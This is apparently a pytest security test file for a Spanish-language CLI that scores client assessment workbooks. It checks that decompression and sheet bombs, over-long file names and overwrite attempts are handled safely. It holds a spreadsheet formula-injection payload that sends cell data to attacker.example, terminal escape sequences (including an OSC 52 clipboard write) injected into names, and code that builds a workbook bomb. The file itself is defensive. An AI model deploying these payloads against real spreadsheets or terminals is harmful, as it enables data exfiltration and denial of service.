"""Whatever arrives, the batch finishes: readers that panic, abort or ask for gigabytes, file
names at the system's limit, earlier summaries that are bombs, client text that would run as a
formula or act on a terminal, and outputs that would replace the user's own files."""

from __future__ import annotations

import csv
import json
import re
import shutil
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from msp_assessment.cli import cli
from msp_assessment.client import Client
from msp_assessment.errors import RoundError
from msp_assessment.examples import write_filled
from msp_assessment.instrument import Instrument
from msp_assessment.processing.portfolio.rounds import read_round
from msp_assessment.processing.returns.intake import Limits
from msp_assessment.workbook_templates import contract
from msp_assessment.workbook_templates.cells import named_cell
from tests.support.corpus import CORPUS
from tests.support.hostile import (
    ANSWERS,
    ods_edited,
    ods_repeat_bomb,
    ods_spaces_bomb,
    valid,
)
from tests.support.programs import require_libreoffice, skip_unless_ci, soffice_convert

HOSTILE_LINK = '=HYPERLINK("http://attacker.example/?d="&B15,"clic")'
OOM_XLS = CORPUS / "ExcelDataReader+ExcelDataReader/src/TestData/Test_git_issue_382_oom.xls"
LEFTOVER_XLS = OOM_XLS.with_name("Test_git_issue_467_empty_continue_leftoverbytes.xls")


def process(*args: str) -> Any:
    return CliRunner().invoke(cli, ["process", *args])


def by_name(stdout: str) -> dict[str, dict[str, Any]]:
    return {Path(f["path"]).name: f for f in json.loads(stdout)["files"]}


def first_code(file: dict[str, Any]) -> str | None:
    return file["problems"][0]["code"] if file["problems"] else None


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_readers_that_explode__that_file_stopped__every_good_file_scored_and_a_summary(
    tmp_path: Path, jobs: str
) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    good = [valid(inbox / f"bueno-{i}.xlsx", company=f"Bueno {i}") for i in range(3)]
    ods_spaces_bomb(inbox)
    ods_repeat_bomb(inbox)
    if not OOM_XLS.exists():
        skip_unless_ci(f"falta el corpus público en {CORPUS}")
    else:
        shutil.copy(OOM_XLS, inbox / "oom.xls")  # 25 KB that once asked for 24 GB
        shutil.copy(LEFTOVER_XLS, inbox / "restos.xls")
    out = tmp_path / "out"
    started = time.monotonic()
    result = process(str(inbox), "-o", str(out), "--json", "--jobs", jobs)
    assert time.monotonic() - started < 120
    assert result.exit_code == 1, result.output
    files = by_name(result.stdout)
    for path in good:
        assert files[path.name]["status"] == "scored"
        assert files[path.name]["average"] == 3.55
    for name in ("espacios.ods", "repetidas.ods"):
        assert files[name]["status"] == "unreadable"
        assert first_code(files[name]) == "file_reader_stopped"
        assert "guarde como «Libro de Excel (.xlsx)»" in files[name]["problems"][0]["message"]
    for name in ("oom.xls", "restos.xls"):
        if name in files:  # a file calamine cannot read, or one that stops it: never the batch
            assert files[name]["status"] == "unreadable", files[name]
            assert first_code(files[name]) in ("file_reader_stopped", "file_format_unreadable")
    summary = openpyxl.load_workbook(out / contract.SUMMARY_NAME, read_only=True)
    assert "Resumen" in summary.sheetnames


def test_file_name_at_the_system_limit__output_name_shortened__process_and_reminders_work(
    tmp_path: Path,
) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    long_name = "respuesta-" + "ñ" * 118 + ".xlsx"  # 251 bytes: a legal name
    assert len(long_name.encode()) == 251
    valid(inbox / long_name)
    broken = write_filled(inbox / ("á" * 120 + "x.xlsx"), {(1, 1): 9}, client=Client("C-1"))
    out = tmp_path / "out"
    result = process(str(inbox), "-o", str(out), "--json")
    assert result.exit_code == 1, result.output
    files = by_name(result.stdout)
    scored, review = files[long_name], files[broken.name]
    assert scored["status"] == "scored" and review["status"] == "invalid"
    for output in (scored["output"], review["output"]):
        name = Path(output).name
        assert len(name.encode()) <= 255
        assert Path(output).is_file()
    assert Path(scored["output"]).name.startswith("respuesta-ñ")
    assert (out / contract.SUMMARY_NAME).is_file()
    clients = tmp_path / "clientes.csv"
    clients.write_text("ID;Empresa;Email\nC-1;Uno;uno@uno.es\n", encoding="utf-8")
    reminders = tmp_path / "recordatorios"
    status = CliRunner().invoke(
        cli,
        ["status", str(clients), str(inbox), "--reminders", str(reminders), "--from", "a@b.es"],
    )
    assert status.exit_code == 0, status.output
    assert "Traceback" not in status.output
    assert len(list(reminders.glob("*.eml"))) == 1


def first_round(tmp_path: Path) -> tuple[Path, Path]:
    """A folder with one valid return, and the summary ``process`` wrote for it."""
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    valid(inbox / "uno.xlsx")
    out = tmp_path / "ronda1"
    assert process(str(inbox), "-o", str(out)).exit_code == 0
    return inbox, out / contract.SUMMARY_NAME


def summary_bomb(tmp_path: Path, cells: int) -> Path:
    """A summary of ours whose Respuestas sheet holds ``cells`` cells: a 1 MB sheet bomb."""
    _, summary = first_round(tmp_path)
    wb = openpyxl.load_workbook(summary)
    part = f"xl/worksheets/sheet{wb.sheetnames.index('Respuestas') + 1}.xml"
    # Numbers that vary, so that the package stays within the compression-ratio limit.
    rows = "".join(
        "<row>"
        + "".join(f"<c><v>{(r * 7919 + c * 104729) % 97}</v></c>" for c in range(200))
        + "</row>"
        for r in range(cells // 200)
    )
    bomb = tmp_path / "resumen-bomba.xlsx"
    with zipfile.ZipFile(summary) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == part:
                head, _, _ = data.partition(b"</sheetData>")  # the real rows, then the bomb
                head = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', head)
                data = head + f"{rows}</sheetData></worksheet>".encode()
            zout.writestr(info, data)
    return bomb


def test_previous_summary_bomb__read_within_the_reader_limits__a_clear_round_error(
    tmp_path: Path, instrument: Instrument
) -> None:
    bomb = summary_bomb(tmp_path, 2_000_000)
    assert bomb.stat().st_size < 1_000_000
    started = time.monotonic()
    with pytest.raises(RoundError) as stopped:
        read_round(bomb, instrument, limits=Limits(reader_seconds=1))
    assert time.monotonic() - started < 5
    assert "hace que el lector se detenga (no terminó en 1 s)" in str(stopped.value)
    with pytest.raises(RoundError) as capped:
        read_round(bomb, instrument, limits=Limits(reader_memory_bytes=32 * 1024 * 1024))
    assert "se quedó sin memoria" in str(capped.value)


def test_previous_that_is_not_a_workbook__refused_before_reading(tmp_path: Path) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    valid(inbox / "uno.xlsx")
    fake = tmp_path / "resumen.xlsx"
    fake.write_bytes(b"PK\x03\x04" + b"\0" * 100)
    result = process(str(inbox), "-o", str(tmp_path / "o"), "--previous", str(fake))
    assert result.exit_code == 2
    assert "no se puede usar como resumen de una ronda anterior" in result.output


@pytest.fixture(scope="module")
def typed_by_client(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Workbooks saved by LibreOffice as .ods and .xls, whose client typed a formula as text in
    an answer and in Fecha, and (in the .ods) control characters in Empresa."""
    require_libreoffice()
    work = tmp_path_factory.mktemp("tecleado")
    answers: dict[tuple[int, int], object] = dict(ANSWERS)
    source = write_filled(
        work / "origen" / "formula.xlsx",
        answers,
        client=Client("F-1", "Empresa Fórmula", "Ana", "ana@formula.es"),
    )
    wb = openpyxl.load_workbook(source)
    for name in (contract.answer_name(1, 1), "cliente_fecha"):
        cell = named_cell(wb, name)
        cell.value = HOSTILE_LINK
        cell.data_type = "s"  # typed as text, as a client pasting it would
    wb.save(source)
    scored_source = write_filled(
        work / "origen" / "fecha.xlsx",
        answers,
        client=Client("F-2", "Empresa ESCAPE", "Eva", "eva@formula.es"),
    )
    wb = openpyxl.load_workbook(scored_source)
    cell = named_cell(wb, "cliente_fecha")
    cell.value = HOSTILE_LINK
    cell.data_type = "s"
    wb.save(scored_source)
    inbox = work / "recibidos"
    made = {
        "ods": soffice_convert(source, "ods", inbox),
        "xls": soffice_convert(source, "xls", inbox),
    }
    ods = soffice_convert(scored_source, "ods", work / "lo")
    made["scored_ods"] = ods_edited(
        ods,
        inbox / "escape.ods",
        lambda xml: xml.replace(b"ESCAPE", b"Evil&#x1b;]52;c;ZXZpbA==&#x07;&#x1b;[2K Co"),
    )
    shutil.rmtree(inbox / ".lo-profile")
    return made


def test_formula_typed_by_a_client__text_in_every_copy_made_from_ods_and_xls(
    typed_by_client: dict[str, Path], tmp_path: Path
) -> None:
    inbox = typed_by_client["ods"].parent
    out = tmp_path / "out"
    result = process(str(inbox), "-o", str(out), "--json")
    files = by_name(result.stdout)
    for kind in ("ods", "xls"):
        review = files[typed_by_client[kind].name]
        assert review["status"] == "invalid", review
        wb = openpyxl.load_workbook(review["output"])
        for name in (contract.answer_name(1, 1), "cliente_fecha"):
            cell = named_cell(wb, name)
            assert (cell.value, cell.data_type) == (HOSTILE_LINK, "s"), (kind, name)
    scored = files["escape.ods"]
    assert scored["status"] == "scored", scored
    wb = openpyxl.load_workbook(scored["output"])
    date_cell = named_cell(wb, "cliente_fecha")
    assert (date_cell.value, date_cell.data_type) == (HOSTILE_LINK, "s")
    for ws in wb.worksheets:  # no formula anywhere holds the client's text
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "attacker" not in str(cell.value), (ws.title, cell.coordinate)


def test_control_characters__never_reach_the_terminal_the_csv_or_the_pdf(
    typed_by_client: dict[str, Path], tmp_path: Path
) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    shutil.copy(typed_by_client["scored_ods"], inbox / "escape.ods")
    # A file name can hold them too (Linux allows any byte but / and NUL).
    valid(inbox / "nombre\x1b]52;c;ZXZpbA==\x07.xlsx")
    out = tmp_path / "out"
    table = tmp_path / "resultados.csv"
    result = process(str(inbox), "-o", str(out), "--csv", str(table), "--pdf")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "nombre\\x1b]52;c;ZXZpbA==\\x07.xlsx" in result.output  # shown, escaped
    assert "Evil]52;c;ZXZpbA==[2K Co" in result.output  # the client's text, without them
    text = table.read_text(encoding="utf-8-sig")
    assert "\x1b" not in text and "\x07" not in text
    companies = {row["Empresa"] for row in csv.DictReader(text.splitlines(), delimiter=";")}
    assert "Empresa Evil]52;c;ZXZpbA==[2K Co" in companies
    check = CliRunner().invoke(cli, ["check", str(inbox)])
    assert "\x1b" not in check.output and "\x07" not in check.output


@pytest.mark.parametrize(
    "case",
    ["csv_is_the_client_list", "summary_is_the_previous_round", "csv_is_the_summary"],
)
def test_outputs_that_would_replace_the_users_own_files__refused(tmp_path: Path, case: str) -> None:
    inbox, previous = first_round(tmp_path)
    clients = tmp_path / "clientes.csv"
    clients.write_text("ID;Empresa;Email\nH-1;Hostil S.A.;ana@hostil.es\n", encoding="utf-8")
    out = tmp_path / "ronda2"
    args = {
        "csv_is_the_client_list": ["--clients", str(clients), "--csv", str(clients)],
        "summary_is_the_previous_round": ["--previous", str(previous), "--summary", str(previous)],
        "csv_is_the_summary": ["--csv", str(out / contract.SUMMARY_NAME)],
    }[case]
    before = {p: p.read_bytes() for p in (clients, previous)}
    result = process(str(inbox), "-o", str(out), *args)
    assert result.exit_code == 2, result.output
    assert "elija otro nombre" in result.output
    assert {p: p.read_bytes() for p in before} == before
    assert not (out / contract.SUMMARY_NAME).exists()


def test_folder_without_workbooks__exit_1_and_says_so(tmp_path: Path) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    for i in range(25):
        (inbox / f"nota-{i}.txt").write_text("hola")
    out = tmp_path / "out"
    result = process(str(inbox), "-o", str(out))
    assert result.exit_code == 1
    assert "No se ha encontrado ningún libro que procesar" in result.output
    assert "25 archivos omitidos" in result.output
    assert result.output.count("Omitido:") == 20  # and «… y 5 archivos omitidos más»
    assert "y 5 archivos omitidos más" in result.output
    assert (out / contract.SUMMARY_NAME).is_file()  # this run's summary: nobody answered


def test_a_date_in_the_future__a_problem_to_fix_not_the_newest_workbook(tmp_path: Path) -> None:
    inbox = tmp_path / "recibidos"
    inbox.mkdir()
    client = Client("H-1", "Hostil S.A.", "Ana", "ana@hostil.es")
    write_filled(inbox / "real.xlsx", ANSWERS, client=client, date="20/11/2026")
    write_filled(inbox / "futuro.xlsx", ANSWERS, client=client, date="31/12/2099")
    result = process(str(inbox), "-o", str(tmp_path / "o"), "--json")
    files = by_name(result.stdout)
    assert files["real.xlsx"]["status"] == "scored"
    future = files["futuro.xlsx"]
    assert future["status"] == "invalid"
    assert first_code(future) == "client_date_future"
    assert "la fecha 31/12/2099 es posterior a hoy" in future["problems"][0]["message"]
    assert json.loads(result.stdout)["superseded"] == []
